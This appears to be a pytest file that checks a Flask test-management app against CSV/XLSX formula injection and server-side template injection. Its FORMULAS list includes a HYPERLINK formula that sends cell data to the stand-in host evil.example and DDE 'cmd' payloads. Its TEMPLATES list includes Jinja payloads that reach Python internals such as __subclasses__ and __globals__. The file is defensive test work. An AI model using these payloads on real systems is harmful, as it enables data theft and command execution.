"""Texts that want to be more than texts: formulas in every file, templates in every prompt and on every page."""

import csv
import io
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import Engine
from werkzeug.test import TestResponse

from tests.auth.rows import NOT_ROWS, Theirs, everything_of
from tests.people import Person
from tests.scripted_endpoint import ScriptedEndpoint
from tests.security.canaries import fill
from tests.security.matrix import cells

pytestmark = pytest.mark.timeout(600)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|'/C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '=DDE("cmd";"/C calc";"x")', "=IMPORTXML(A1)",
)  # fmt: skip
# what a spreadsheet computes when a cell begins with it
_COMPUTED = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
TEMPLATES = (
    "{{ 7103 * 7 }}", "{{7103*7}}", "${7103*7}", "#{7103*7}", "<%= 7103*7 %>", "{% for x in (7103,) %}{{ x * 7 }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ config }}", "{{ request.application.__globals__ }}",
    "{{ input }}", "{{ input | upper }}", "{{ test.metadata }}", "{{ {{ input }} }}", "{{ '{{' }}input{{ '}}' }}",
    "{{ self._TemplateReference__context }}", "{{ cycler.__init__.__globals__ }}", "%7B%7B7103*7%7D%7D", "{{ messages }}",
    "\\{\\{ input \\}\\}", "{#%s#}", "{{", "}}", "{%", "$input", "%(input)s", "{0.__class__}", "{input}",
)  # fmt: skip
COMPUTED = "49721"


@pytest.fixture
def mine(charlie: Person) -> Theirs:
    """One of everything."""
    return everything_of(charlie)


def gets(app: Flask, charlie: Person, mine: Theirs) -> Iterator[tuple[str, TestResponse]]:
    """Every answer to a GET, of pages and API, and a run's export by each exporter."""
    for cell in cells(app, mine.ids):
        if cell.method == "GET" and cell.rule.endpoint not in NOT_ROWS:
            yield cell.path, (charlie.api if cell.side == "api" else charlie.web).open("GET", cell.path)
    for key in sorted(charlie.host.registry.exporters):
        path = f"/api/v1/test-runs/{mine.ids['run_id']}/export?format={key}"
        yield path, charlie.api.get(path)
    path = f"/api/v1/test-sets/{mine.ids['test_set_id']}/export?format=csv"
    yield path, charlie.api.get(path)


def cells_of(answer: TestResponse) -> list[Any]:
    """The cells of a table in a file; none of what is no table."""
    if answer.status_code == 200 and answer.content_type.startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]
    if "spreadsheetml" in answer.content_type:
        sheets = load_workbook(io.BytesIO(answer.data)).worksheets
        return [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
    return []


def is_computed(cell: Any) -> bool:
    """Whether a spreadsheet would compute it."""
    if isinstance(cell, str):
        return cell.startswith(_COMPUTED) and not _is_number(cell)
    return bool(cell.data_type == "f")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_cell_of_any_file_is_computed(
    app: Flask, charlie: Person, mine: Theirs, superuser: Engine, figure: Callable[..., None]
) -> None:
    computed, files, looked_at = [], set(), 0
    for formula in FORMULAS:
        fill(superuser, charlie.actor.organization_id, lambda _name, said=formula: said)
        for path, answer in gets(app, charlie, mine) if formula == FORMULAS[0] else exports(charlie, mine, files):
            found = cells_of(answer)
            looked_at += len(found)
            if found:
                files.add(path)
            computed += [f"{path}: {getattr(cell, 'value', cell)!r}" for cell in found if is_computed(cell)]
    how = (
        f"{len(FORMULAS)} formulas in every text of an organization × every CSV and XLSX file that any GET answers with"
    )
    figure("formulas/cells looked at", looked_at, "≥ 500", looked_at >= 500, how)
    figure("formulas/kinds of file", len(files), "≥ 3", len(files) >= 3, how)
    figure("formulas/cells that compute", len(computed), "= 0", not computed, how)
    assert not computed, "\n".join(computed[:20])


def exports(charlie: Person, mine: Theirs, files: set[str]) -> Iterator[tuple[str, TestResponse]]:
    """The files that are tables, once it is known which they are."""
    for path in sorted(files):
        yield path, (charlie.api if path.startswith("/api/") else charlie.web).open("GET", path)


def test_no_text_is_a_template_on_any_page(
    app: Flask, charlie: Person, mine: Theirs, superuser: Engine, figure: Callable[..., None]
) -> None:
    everything = " ".join(TEMPLATES)
    fill(superuser, charlie.actor.organization_id, lambda _name: everything)
    told, answers = [], 0
    for path, answer in gets(app, charlie, mine):
        answers += 1
        if COMPUTED.encode() in answer.data or answer.status_code >= 500:
            told.append(f"{path}: {answer.status_code}")
    figure("templates/answers looked at", answers, None, None, f"{len(TEMPLATES)} templates in every text × every GET")
    figure("templates/answers that computed one", len(told), "= 0", not told, "as above")
    assert not told, "\n".join(told)


def test_every_prompt_arrives_as_it_is(charlie: Person, mine: Theirs, figure: Callable[..., None]) -> None:
    changed = []
    with ScriptedEndpoint() as server:
        body = {"request_template": {"message": "{{ input }}", "more": "a {{ input }} b"}, "method": "POST"}
        more = {"name": "bare", "url": server.url, "response_mapping": {"output": "$.reply"}}
        made = charlie.api.post("/endpoints", {"project_id": str(mine.ids["project_id"])} | body | more).json
        for said in (*TEMPLATES, *FORMULAS):
            answer = charlie.api.post(f"/endpoints/{made['id']}/invoke", {"input": said}).json
            sent = server.calls[-1].json
            if (sent["message"], sent["more"], answer["output"]) != (said, f"a {said} b", said):
                changed.append(f"{said!r}: {sent} {answer['output']!r}")
    tried = len(TEMPLATES) + len(FORMULAS)
    figure("templates/prompts sent", tried, None, None, "each template and formula as a prompt")
    figure(
        "templates/prompts that arrived changed", len(changed), "= 0", not changed, "byte for byte, alone and in a text"
    )
    assert not changed
